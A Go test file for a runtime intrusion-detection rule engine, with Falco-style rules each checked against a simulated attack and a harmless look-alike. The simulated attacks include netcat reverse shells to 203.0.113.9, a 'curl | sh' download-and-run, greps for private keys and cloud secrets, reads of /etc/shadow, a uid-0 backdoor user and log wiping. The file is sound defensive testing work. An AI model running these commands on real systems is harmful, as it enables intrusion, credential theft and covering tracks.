package rules

import (
	"net/netip"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/sakerhq/saker/engine/rule/compile"
	"github.com/sakerhq/saker/engine/synth"
)

// scenario makes one rule fire, and plays a harmless look-alike that must
// not make it fire.
type scenario struct {
	fire, miss func(w *world)
}

var addr = netip.MustParseAddrPort

const rw = synth.OWronly | synth.OCreat | synth.OTrunc

var scenarios = map[string]scenario{
	// Containers.
	"Terminal shell in container": {
		fire: func(w *world) { w.ctrShell(true) },
		miss: func(w *world) { w.ctrShell(false) },
	},
	"Drop and execute new binary in container": {
		fire: func(w *world) {
			sh := w.ctrShell(false)
			sh.Spawn(synth.Proc{Pid: w.next(), Exe: "/tmp/kworkerd", Container: w.ctr, ExeUpperLayer: true})
		},
		miss: func(w *world) {
			sh := w.ctrShell(false)
			sh.Spawn(synth.Proc{Pid: w.next(), Exe: "/usr/bin/env", Container: w.ctr})
		},
	},
	"Contact K8S API Server From Container": {
		fire: func(w *world) {
			w.spawn(w.app, "/usr/bin/curl", "-k", "https://10.96.0.1/api").Dial(addr("10.96.0.1:443"))
		},
		miss: func(w *world) { w.spawn(w.app, "/usr/bin/curl", "http://10.96.0.10").Dial(addr("10.96.0.10:80")) },
	},
	"Kubernetes Client Tool Launched in Container": {
		fire: func(w *world) { w.spawn(w.ctrShell(true), "/usr/local/bin/kubectl", "get", "secrets", "-A") },
		miss: func(w *world) { w.spawn(w.bob, "/usr/local/bin/kubectl", "get", "pods") },
	},
	"Launch Sensitive Mount Container": {
		fire: func(w *world) {
			w.startContainer("agent", false, synth.Mount{Source: "/var/run/docker.sock", Dest: "/var/run/docker.sock", RW: true})
		},
		miss: func(w *world) {
			w.startContainer("agent", false, synth.Mount{Source: "/srv/data", Dest: "/data", RW: true})
		},
	},
	"Launch Privileged Container": {
		fire: func(w *world) { w.startContainer("priv", true) },
		miss: func(w *world) { w.startContainer("plain", false) },
	},
	"Packet socket created in container": {
		fire: func(w *world) { w.ctrShell(false).Socket(synth.AFPacket, synth.SockRaw, 0x300) },
		miss: func(w *world) { w.ctrShell(false).Socket(synth.AFInet, synth.SockRaw, 1) },
	},
	"Redirect STDOUT/STDIN to Network Connection in Container": {
		fire: func(w *world) {
			sh := w.ctrShell(false)
			fd := sh.Dial(addr("203.0.113.9:4444"))
			sh.Dup2(fd, 0)
			sh.Dup2(fd, 1)
		},
		miss: func(w *world) {
			sh := w.ctrShell(false)
			fd := sh.Open("/tmp/out.log", rw)
			sh.Dup2(fd, 1)
		},
	},
	"Netcat Remote Code Execution in Container": {
		fire: func(w *world) { w.spawn(w.ctrShell(false), "/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444") },
		miss: func(w *world) { w.spawn(w.ctrShell(false), "/usr/bin/nc", "-zv", "db", "5432") },
	},
	"Netcat command execution on host": {
		fire: func(w *world) { w.spawn(w.bob, "/usr/bin/nc", "-c", "bash", "203.0.113.9", "4444") },
		miss: func(w *world) { w.spawn(w.bob, "/usr/bin/nc", "-zv", "db", "5432") },
	},
	"Detect release_agent File Container Escapes": {
		fire: func(w *world) { w.ctrShell(false).Open("/tmp/cgrp/release_agent", synth.OWronly) },
		miss: func(w *world) { w.ctrShell(false).Open("/tmp/cgrp/release_agent", synth.ORdonly) },
	},
	"Debugfs Launched in Privileged Container": {
		fire: func(w *world) { w.spawn(w.startContainer("priv", true), "/sbin/debugfs", "/dev/sda1") },
		miss: func(w *world) { w.spawn(w.startContainer("plain", false), "/sbin/debugfs", "/dev/sda1") },
	},
	"Mount Launched in Privileged Container": {
		fire: func(w *world) { w.spawn(w.startContainer("priv", true), "/bin/mount", "/dev/sda1", "/mnt") },
		miss: func(w *world) { w.spawn(w.startContainer("priv", true), "/bin/mount", "-l") },
	},
	"Launch Package Management Process in Container": {
		fire: func(w *world) { w.spawn(w.ctrShell(true), "/usr/bin/apt-get", "install", "-y", "nmap") },
		miss: func(w *world) { w.spawn(w.root, "/usr/bin/apt-get", "install", "-y", "nmap") },
	},
	"Launch Suspicious Network Tool in Container": {
		fire: func(w *world) { w.spawn(w.ctrShell(true), "/usr/bin/nmap", "-sS", "10.0.0.0/24") },
		miss: func(w *world) { w.spawn(w.root, "/usr/bin/nmap", "-sS", "10.0.0.0/24") },
	},
	"Launch Remote File Copy Tools in Container": {
		fire: func(w *world) { w.spawn(w.ctrShell(true), "/usr/bin/rsync", "-a", "/data", "x:/tmp") },
		miss: func(w *world) { w.spawn(w.root, "/usr/bin/rsync", "-a", "/data", "x:/tmp") },
	},
	"Contact cloud metadata service from container": {
		fire: func(w *world) {
			w.spawn(w.app, "/usr/bin/curl", "http://169.254.169.254/").Dial(addr("169.254.169.254:80"))
		},
		miss: func(w *world) { w.spawn(w.app, "/usr/bin/curl", "http://example.com/").Dial(addr("93.184.216.34:80")) },
	},
	"Container Drift Detected (chmod)": {
		fire: func(w *world) { w.ctrShell(false).Chmod("/tmp/kworkerd", 0o755) },
		miss: func(w *world) { w.ctrShell(false).Chmod("/tmp/notes.txt", 0o644) },
	},
	"Sudo or su used in container": {
		fire: func(w *world) { w.spawn(w.ctrShell(true), "/bin/su", "-") },
		miss: func(w *world) { w.spawn(w.bob, "/usr/bin/sudo", "-l") },
	},

	// Processes.
	"Run shell untrusted": {
		fire: func(w *world) { w.spawn(w.nginx, "/bin/sh", "-c", "id") },
		miss: func(w *world) { w.spawn(w.cron, "/bin/sh", "-c", "run-parts /etc/cron.hourly") },
	},
	"System user interactive": {
		fire: func(w *world) {
			w.sshd.Spawn(synth.Proc{Pid: w.next(), Exe: "/bin/bash", UID: 33, GID: 33, LoginUID: 33, Tty: tty})
		},
		miss: func(w *world) {
			w.sshd.Spawn(synth.Proc{Pid: w.next(), Exe: "/bin/bash", UID: 1000, GID: 1000, Tty: tty})
		},
	},
	"DB program spawned process": {
		fire: func(w *world) { w.spawn(w.mysql, "/bin/sh", "-c", "curl http://203.0.113.9/x | sh") },
		miss: func(w *world) { w.spawn(w.mysql, "/usr/sbin/mysqld", "--initialize") },
	},
	"Execution from /dev/shm": {
		fire: func(w *world) { w.spawn(w.bob, "/dev/shm/.x/miner", "-o", "pool:3333") },
		miss: func(w *world) { w.spawn(w.bob, "/usr/bin/cat", "/dev/shm/notes") },
	},
	"Fileless execution via memfd_create": {
		fire: func(w *world) {
			sh := w.spawn(w.bob, "/usr/bin/python3", "-c", "loader")
			sh.MemfdCreate("x")
			sh.ExecProc(synth.Proc{Exe: "/memfd:x (deleted)", Argv0: "kworker", Comm: "3", UID: 1000, GID: 1000, Tty: tty, ExeFromMemfd: true})
		},
		miss: func(w *world) {
			sh := w.spawn(w.bob, "/usr/bin/python3", "-c", "loader")
			sh.MemfdCreate("jit")
			sh.Exec("/usr/bin/ls")
		},
	},
	"Remove Bulk Data from Disk": {
		fire: func(w *world) { w.spawn(w.root, "/usr/bin/shred", "-u", "/var/lib/mysql/ibdata1") },
		miss: func(w *world) { w.spawn(w.root, "/usr/bin/rm", "/tmp/ibdata1") },
	},
	"Search Private Keys or Passwords": {
		fire: func(w *world) { w.spawn(w.bob, "/usr/bin/grep", "-rl", "BEGIN RSA PRIVATE", "/home") },
		miss: func(w *world) { w.spawn(w.bob, "/usr/bin/grep", "-rl", "ERROR", "/var/log") },
	},
	"Find cloud credentials": {
		fire: func(w *world) { w.spawn(w.bob, "/usr/bin/grep", "-r", "aws_secret_access_key", "/home") },
		miss: func(w *world) { w.spawn(w.bob, "/usr/bin/find", ".", "-name", "*.go") },
	},
	"User mgmt binaries": {
		fire: func(w *world) { w.spawn(w.root, "/usr/sbin/useradd", "-m", "-o", "-u", "0", "toor") },
		miss: func(w *world) { w.spawn(w.root, "/usr/bin/passwd", "-S", "bob") },
	},
	"Sudo Potential Privilege Escalation": {
		fire: func(w *world) {
			w.bob.Spawn(synth.Proc{Pid: w.next(), Exe: "/usr/bin/sudoedit", Args: []string{"-s", `\`}, UID: 0, LoginUID: 1000, Tty: tty})
		},
		miss: func(w *world) {
			w.bob.Spawn(synth.Proc{Pid: w.next(), Exe: "/usr/bin/sudo", Args: []string{"-i"}, UID: 0, LoginUID: 1000, Tty: tty})
		},
	},
	"Setuid to root outside sudo and su": {
		fire: func(w *world) {
			x := w.spawn(w.bob, "/tmp/.x/pwn")
			x.Setuid(0)
		},
		miss: func(w *world) {
			s := w.bob.Spawn(synth.Proc{Pid: w.next(), Exe: "/usr/bin/sudo", Args: []string{"id"}, UID: 1000, LoginUID: 1000, Tty: tty})
			s.Setuid(0)
		},
	},
	"Set Setuid or Setgid bit": {
		fire: func(w *world) { w.spawn(w.root, "/usr/bin/chmod", "u+s", "/tmp/.sh").Chmod("/tmp/.sh", 0o4755) },
		miss: func(w *world) { w.spawn(w.root, "/usr/bin/chmod", "755", "/tmp/.sh").Chmod("/tmp/.sh", 0o755) },
	},
	"Linux Kernel Module Injection Detected": {
		fire: func(w *world) { w.spawn(w.startContainer("priv", true), "/sbin/insmod", "/tmp/r.ko").InitModule("") },
		miss: func(w *world) { w.spawn(w.root, "/sbin/insmod", "/tmp/r.ko").InitModule("") },
	},
	"Kernel module loaded by unexpected program": {
		fire: func(w *world) {
			x := w.spawn(w.root, "/tmp/.x/loader")
			x.FinitModule(x.Open("/tmp/.x/r.ko", synth.ORdonly), "")
		},
		miss: func(w *world) {
			x := w.spawn(w.root, "/usr/sbin/modprobe", "nf_tables")
			x.FinitModule(x.Open("/lib/modules/6.1.0/kernel/net/netfilter/nf_tables.ko", synth.ORdonly), "")
		},
	},
	"PTRACE attached to process": {
		fire: func(w *world) { w.spawn(w.root, "/tmp/.x/inject").Ptrace(synth.PtraceAttach, 500) },
		miss: func(w *world) { w.spawn(w.root, "/tmp/.x/inject").Ptrace(synth.PtracePeekdata, 500) },
	},
	"PTRACE anti-debug attempt": {
		fire: func(w *world) { w.spawn(w.bob, "/home/bob/packed").Ptrace(synth.PtraceTraceme, 0) },
		miss: func(w *world) {
			w.spawn(w.spawn(w.bob, "/usr/bin/strace", "ls"), "/usr/bin/ls").Ptrace(synth.PtraceTraceme, 0)
		},
	},
	"Change thread namespace": {
		fire: func(w *world) {
			x := w.spawn(w.ctrShell(false), "/tmp/escape")
			x.Setns(x.Open("/proc/1/ns/mnt", synth.ORdonly), synth.NsMount)
		},
		miss: func(w *world) {
			x := w.spawn(w.shim, "/usr/bin/runc", "exec")
			x.Setns(x.Open("/proc/1000/ns/mnt", synth.ORdonly), synth.NsMount)
		},
	},

	// Files.
	"Read sensitive file untrusted": {
		fire: func(w *world) { w.spawn(w.root, "/usr/bin/python3", "dump.py").Open("/etc/shadow", synth.ORdonly) },
		miss: func(w *world) { w.sshd.Open("/etc/shadow", synth.ORdonly) },
	},
	"Write below etc": {
		fire: func(w *world) { w.spawn(w.root, "/usr/bin/python3", "x.py").Open("/etc/ld.so.preload", rw) },
		miss: func(w *world) { w.spawn(w.root, "/usr/bin/dpkg", "-i", "x.deb").Open("/etc/x.conf", rw) },
	},
	"Write below root": {
		fire: func(w *world) {
			w.spawn(w.root, "/usr/bin/curl", "-o", "/root/.x.sh", "http://x").Open("/root/.x.sh", rw)
		},
		miss: func(w *world) { w.root.Open("/root/.bash_history", synth.OWronly|synth.OAppend) },
	},
	"Directory traversal monitored file read": {
		fire: func(w *world) { w.nginx.Open("/var/www/html/../../../etc/passwd", synth.ORdonly) },
		miss: func(w *world) {
			w.spawn(w.bob, "/usr/bin/cat", "../../etc/passwd").Open("../../etc/passwd", synth.ORdonly)
		},
	},
	"Write below binary dir": {
		fire: func(w *world) {
			w.spawn(w.root, "/usr/bin/curl", "-o", "/usr/bin/top", "http://x").Open("/usr/bin/top", rw)
		},
		miss: func(w *world) { w.spawn(w.root, "/usr/bin/dpkg", "-i", "procps.deb").Open("/usr/bin/top", rw) },
	},
	"Mkdir binary dirs": {
		fire: func(w *world) { w.spawn(w.root, "/usr/bin/mkdir", "/usr/bin/.cache").Mkdirat("/usr/bin/.cache") },
		miss: func(w *world) {
			w.spawn(w.root, "/usr/bin/mkdir", "/usr/local/lib/.cache").Mkdirat("/usr/local/lib/.cache")
		},
	},
	"Modify binary dirs": {
		fire: func(w *world) {
			w.spawn(w.root, "/usr/bin/mv", "/usr/bin/ps", "/usr/bin/ps.orig").Rename("/usr/bin/ps", "/usr/bin/ps.orig")
		},
		miss: func(w *world) {
			w.spawn(w.root, "/usr/bin/mv", "/tmp/ps", "/tmp/ps.orig").Rename("/tmp/ps", "/tmp/ps.orig")
		},
	},
	"Create Symlink Over Sensitive Files": {
		fire: func(w *world) {
			w.spawn(w.bob, "/usr/bin/ln", "-s", "/etc/shadow", "/tmp/s").Symlink("/etc/shadow", "/tmp/s")
		},
		miss: func(w *world) {
			w.spawn(w.bob, "/usr/bin/ln", "-s", "/etc/hostname", "/tmp/s").Symlink("/etc/hostname", "/tmp/s")
		},
	},
	"Create Hardlink Over Sensitive Files": {
		fire: func(w *world) { w.spawn(w.root, "/usr/bin/ln", "/etc/shadow", "/tmp/h").Link("/etc/shadow", "/tmp/h") },
		miss: func(w *world) {
			w.spawn(w.root, "/usr/bin/ln", "/etc/hostname", "/tmp/h").Link("/etc/hostname", "/tmp/h")
		},
	},
	"Clear Log Activities": {
		fire: func(w *world) { w.root.Open("/var/log/auth.log", synth.OWronly|synth.OTrunc) },
		miss: func(w *world) { w.root.Open("/var/log/auth.log", synth.OWronly|synth.OAppend) },
	},
	"Log file removed": {
		fire: func(w *world) { w.spawn(w.root, "/usr/bin/rm", "/var/log/auth.log").Unlink("/var/log/auth.log") },
		miss: func(w *world) {
			w.spawn(w.cron, "/usr/sbin/logrotate", "/etc/logrotate.conf").Unlink("/var/log/auth.log.4.gz")
		},
	},
	"Delete or rename shell history": {
		fire: func(w *world) {
			w.spawn(w.bob, "/usr/bin/rm", "/home/bob/.bash_history").Unlink("/home/bob/.bash_history")
		},
		miss: func(w *world) { w.bob.Open("/home/bob/.bash_history", synth.OWronly|synth.OAppend) },
	},
	"Modify Shell Configuration File": {
		fire: func(w *world) {
			w.spawn(w.bob, "/usr/bin/python3", "x.py").Open("/home/bob/.bashrc", synth.OWronly|synth.OAppend)
		},
		miss: func(w *world) { w.bob.Open("/home/bob/.bashrc", synth.ORdonly) },
	},
	"Schedule Cron Jobs": {
		fire: func(w *world) { w.root.Open("/etc/cron.d/update", rw) },
		miss: func(w *world) { w.spawn(w.root, "/usr/bin/crontab", "-l") },
	},
	"Adding ssh keys to authorized_keys": {
		fire: func(w *world) { w.bob.Open("/home/bob/.ssh/authorized_keys", synth.OWronly|synth.OAppend) },
		miss: func(w *world) { w.sshd.Open("/home/bob/.ssh/authorized_keys", synth.ORdonly) },
	},
	"Read ssh information": {
		fire: func(w *world) {
			w.spawn(w.bob, "/usr/bin/python3", "x.py").Open("/home/bob/.ssh/id_rsa", synth.ORdonly)
		},
		miss: func(w *world) { w.spawn(w.bob, "/usr/bin/ssh", "host").Open("/home/bob/.ssh/id_rsa", synth.ORdonly) },
	},
	"Create files below dev": {
		fire: func(w *world) { w.root.Open("/dev/.x", rw) },
		miss: func(w *world) { w.root.Open("/dev/null", rw) },
	},
	"Update Package Repository": {
		fire: func(w *world) { w.root.Open("/etc/apt/sources.list.d/mirror.list", rw) },
		miss: func(w *world) {
			w.spawn(w.root, "/usr/bin/apt-get", "update").Open("/etc/apt/sources.list.d/mirror.list", rw)
		},
	},

	// Network.
	"System procs network activity": {
		fire: func(w *world) { w.bob.Dial(addr("203.0.113.9:4444")) },
		miss: func(w *world) { w.bob.Dial(addr("127.0.0.1:8080")) },
	},
	"Disallowed SSH Connection Non Standard Port": {
		fire: func(w *world) { w.spawn(w.bob, "/usr/bin/ssh", "-p", "2022", "x").Dial(addr("198.51.100.7:2022")) },
		miss: func(w *world) { w.spawn(w.bob, "/usr/bin/ssh", "x").Dial(addr("198.51.100.7:22")) },
	},
}

func play(t *testing.T, f func(w *world)) *synth.Capture {
	t.Helper()
	w := newWorld()
	f(w)
	return w.c
}

const maxRuleTypes = 40

// TestEveryRuleHasScenario keeps the scenario table and the rules file in
// step, and checks that each condition is routed by event type.
func TestEveryRuleHasScenario(t *testing.T) {
	rules := loadRules(t)
	names := map[string]bool{}
	for _, r := range rules {
		names[r.Name] = true
		if _, ok := scenarios[r.Name]; !ok {
			t.Errorf("rule %q has no scenario", r.Name)
		}
		f, err := compile.Compile(r.Expr)
		if err != nil {
			t.Errorf("rule %q: %v", r.Name, err)
			continue
		}
		// Every version of a few syscalls, enter and exit, is the most a
		// rule should need.
		if types, all := f.EventTypes(); all || types.Len() == 0 || types.Len() > maxRuleTypes {
			t.Errorf("rule %q is not restricted to a few event types (%d)", r.Name, types.Len())
		}
		for _, w := range f.Warnings() {
			t.Errorf("rule %q: %v", r.Name, w)
		}
		if !r.Enabled {
			t.Errorf("rule %q is disabled", r.Name)
		}
	}
	for n := range scenarios {
		if !names[n] {
			t.Errorf("scenario for unknown rule %q", n)
		}
	}
	if len(rules) < 40 {
		t.Errorf("only %d rules", len(rules))
	}
}

func TestBaseWorldIsQuiet(t *testing.T) {
	e := newEngine(t, loadRules(t))
	got := runCapture(t, e, newWorld().c)
	for r, outs := range got {
		t.Errorf("rule %q fires on the base world: %s", r, outs[0])
	}
}

func TestRulesFire(t *testing.T) {
	e := newEngine(t, loadRules(t))
	names := make([]string, 0, len(scenarios))
	for n := range scenarios {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, name := range names {
		sc := scenarios[name]
		t.Run(strings.NewReplacer(" ", "_", "/", "_").Replace(name), func(t *testing.T) {
			fired := runCapture(t, e, play(t, sc.fire))
			if len(fired[name]) == 0 {
				t.Errorf("does not fire; alerts: %v", keys(fired))
			} else {
				t.Logf("output: %s", fired[name][0])
				if strings.Contains(fired[name][0], "%") {
					t.Errorf("output has an unrendered field: %s", fired[name][0])
				}
			}
			missed := runCapture(t, e, play(t, sc.miss))
			if outs := missed[name]; len(outs) > 0 {
				t.Errorf("fires on the near miss: %s", outs[0])
			}
		})
	}
}

func keys(m map[string][]string) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// The custom rules users write against Falco's vocabulary load on top of
// ours unchanged and work.
const customRules = `
- rule: Change sensitive files
  desc: Capture sensitive file changes
  condition: open_write and sensitive_files
  output: Sensitive file was changed (file=%fd.name user=%user.name command=%proc.cmdline gparent=%proc.aname[2] %container.info)
  priority: WARNING
- rule: Execute command of privileges or as a different user
  desc: Capture commands of privileges or as a different user
  condition: evt.type = execve and proc.name in (userexec_binaries)
  output: Someone became root (user=%user.name command=%proc.cmdline parent=%proc.pname)
  priority: WARNING
`

func TestCustomRulesOnTop(t *testing.T) {
	e := newEngine(t, loadRules(t, customRules))
	w := newWorld()
	w.spawn(w.root, "/usr/bin/vi", "/etc/sudoers.d/bob").Open("/etc/sudoers.d/bob", rw)
	w.bob.Spawn(synth.Proc{Pid: w.next(), Exe: "/usr/bin/sudo", Args: []string{"id"}, UID: 0, LoginUID: 1000, Tty: tty})
	got := runCapture(t, e, w.c)
	want := map[string]string{
		"Change sensitive files":                               "Sensitive file was changed (file=/etc/sudoers.d/bob user=root command=vi /etc/sudoers.d/bob gparent=sshd container_id=host container_name=host)",
		"Execute command of privileges or as a different user": "Someone became root (user=root command=sudo id parent=bash)",
	}
	for rule, out := range want {
		if len(got[rule]) != 1 {
			t.Errorf("%s: %d alerts, want 1: %q", rule, len(got[rule]), got[rule])
			continue
		}
		if got[rule][0] != out {
			t.Errorf("%s:\n got %s\nwant %s", rule, got[rule][0], out)
		}
	}
	// A read of the same file is not a change.
	w = newWorld()
	w.spawn(w.root, "/usr/bin/cat", "/etc/sudoers.d/bob").Open("/etc/sudoers.d/bob", synth.ORdonly)
	if got := runCapture(t, e, w.c); len(got["Change sensitive files"]) > 0 {
		t.Errorf("custom rule fires on a read: %s", got["Change sensitive files"][0])
	}
}

// maxBenignAlerts bounds how often any rule may fire on the benign
// workload capture.
const maxBenignAlerts = 20

func TestBenignWorkload(t *testing.T) {
	if testing.Short() {
		t.Skip("replays 1.5 million events")
	}
	path := filepath.Join(sharedDir(), "captures", "mixed_workload.scap.gz")
	requireFile(t, path)
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	e := newEngine(t, loadRules(t))
	got, n := alertsCount(t, e, path, f)
	// SOURCES.md gives the capture's size; a short read would hide alerts.
	if n < 1_400_000 {
		t.Fatalf("read only %d events", n)
	}
	// The workload's 3,000 opens of /dev/null with O_CREAT and its writes in
	// /tmp reach the file rules; make sure rules did run.
	if st := e.Stats(); st.Evaluated < 10_000 {
		t.Fatalf("only %d rule evaluations", st.Evaluated)
	}
	t.Logf("%d events, %d evaluations, %d rules fired", n, e.Stats().Evaluated, len(got))
	for _, r := range keys(got) {
		t.Logf("%-50s %6d  first: %s", r, len(got[r]), got[r][0])
		if len(got[r]) > maxBenignAlerts {
			t.Errorf("rule %q fires %d times on a benign workload", r, len(got[r]))
		}
	}
}

func TestEmbeddedIsFile(t *testing.T) {
	b, err := os.ReadFile(DefaultName)
	if err != nil {
		t.Fatal(err)
	}
	if len(Default) == 0 || string(b) != string(Default) {
		t.Errorf("embedded rules (%d bytes) differ from %s (%d bytes)", len(Default), DefaultName, len(b))
	}
}
